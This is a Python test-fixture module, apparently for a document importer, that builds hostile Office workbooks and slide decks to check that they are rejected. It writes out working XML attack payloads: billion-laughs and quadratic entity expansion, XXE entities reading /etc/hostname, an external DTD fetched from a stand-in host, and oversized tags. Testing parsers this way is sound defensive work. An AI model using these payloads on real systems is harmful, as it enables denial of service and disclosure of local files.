"""Parts whose XML is an attack on its reader, and files that are of another kind."""

from importers.hostile_making import BOOK, SHEET, SLIDE, TYPES, changed, hostile, with_part
from inspection.breaking import Parts

STRINGS = "xl/sharedStrings.xml"
DOCUMENT_TYPE = "declares a document type"


def laughs() -> str:
    """Return the text that doubles itself thirty times."""
    doubled = "".join(f'<!ENTITY l{n} "&l{n - 1};&l{n - 1};">' for n in range(1, 30))
    return f'<!DOCTYPE sst [<!ENTITY l0 "ha">{doubled}]><sst><si><t>&l29;</t></si></sst>'


def thief(root: str) -> str:
    """Return XML that wants to hold another file of this machine."""
    return f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "file:///etc/hostname">]><{root}>&x;</{root}>'


def typed(old: str, new: str) -> bytes:
    """Return a workbook whose main part has another type."""
    return changed("workbook", lambda parts: parts.swap(TYPES, old, new))


@hostile("workbook", f"“{STRINGS}” {DOCUMENT_TYPE}")
def billion_laughs() -> bytes:
    return with_part("workbook", STRINGS, laughs().encode())


@hostile("workbook", f"“{STRINGS}” {DOCUMENT_TYPE}")
def quadratic_growth() -> bytes:
    text = f'<!DOCTYPE sst [<!ENTITY a "{"a" * 50_000}">]><sst>{"&a;" * 50_000}</sst>'
    return with_part("workbook", STRINGS, text.encode())


@hostile("deck", f"“{SLIDE}” {DOCUMENT_TYPE}")
def file_in_a_slide() -> bytes:
    return with_part("deck", SLIDE, thief("p:sld").encode())


@hostile("deck", f"“{SLIDE}” {DOCUMENT_TYPE}")
def file_in_a_slide_in_utf_16() -> bytes:
    return with_part("deck", SLIDE, thief("p:sld").encode("utf-16"))


@hostile("deck", f"“docProps/core.xml” {DOCUMENT_TYPE}")
def file_in_the_properties() -> bytes:
    return with_part("deck", "docProps/core.xml", thief("coreProperties").encode())


@hostile("workbook", f"“_rels/.rels” {DOCUMENT_TYPE}")
def rules_from_outside() -> bytes:
    rules = '<!DOCTYPE Relationships SYSTEM "http://192.0.2.1/evil.dtd">\n<Relationships '
    return changed("workbook", lambda parts: parts.swap("_rels/.rels", "<Relationships ", rules))


@hostile("workbook", f"“{TYPES}” {DOCUMENT_TYPE}")
def document_type_in_the_list_of_types() -> bytes:
    return changed("workbook", lambda parts: parts.swap(TYPES, "<Types ", "<!DOCTYPE a><Types "))


@hostile("workbook", f"“xl/strings.bin” {DOCUMENT_TYPE}")
def xml_under_another_ending() -> bytes:
    def move(parts: Parts) -> None:
        parts.contents["xl/strings.bin"] = laughs().encode()
        parts.swap(TYPES, "/xl/sharedStrings.xml", "/xl/strings.bin")

    return changed("workbook", move)


@hostile("workbook", f"its part “{SHEET}” is damaged")
def tag_that_nobody_closes() -> bytes:
    return changed("workbook", lambda parts: parts.swap(SHEET, "</worksheet>", ""))


@hostile("deck", f"its part “{SLIDE}” is damaged")
def rare_encoding() -> bytes:
    text = f'<?xml version="1.0" encoding="UTF-32"?>{thief("p:sld")}'
    return with_part("deck", SLIDE, text.encode("utf-32"))


@hostile("workbook", f"“{STRINGS}” has a tag without end")
def tag_of_megabytes() -> bytes:
    tag = "".join(f' a{number}="{number * 7_919}"' for number in range(300_000))
    return with_part("workbook", STRINGS, f"<sst{tag}/>".encode())


@hostile("workbook", "it holds neither slides nor sheets")
def letter_called_workbook() -> bytes:
    return typed("spreadsheetml.sheet.main", "wordprocessingml.document.main")


@hostile("workbook", "it holds neither slides nor sheets")
def no_types() -> bytes:
    return changed("workbook", lambda parts: parts.drop(TYPES))


@hostile("workbook", "it is no workbook")
def deck_called_workbook() -> bytes:
    return changed("deck", lambda parts: None)


@hostile("deck", "it is no deck or template of slides")
def workbook_called_deck() -> bytes:
    return changed("workbook", lambda parts: None)


@hostile("workbook", "Strict Open XML")
def strict_form() -> bytes:
    usual = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
    strict = "http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument"
    return changed("workbook", lambda parts: parts.swap("_rels/.rels", usual, strict))


@hostile("workbook", f"“{BOOK}” brings macros")
def binary_workbook() -> bytes:
    return typed(
        "openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "ms-excel.sheet.binary.macroEnabled.main",
    )


@hostile("deck", "its part “ppt/odd.xml” is damaged")
def encoding_that_nobody_knows() -> bytes:
    return with_part("deck", "ppt/odd.xml", b'<?xml version="1.0" encoding="odd"?><a/>')
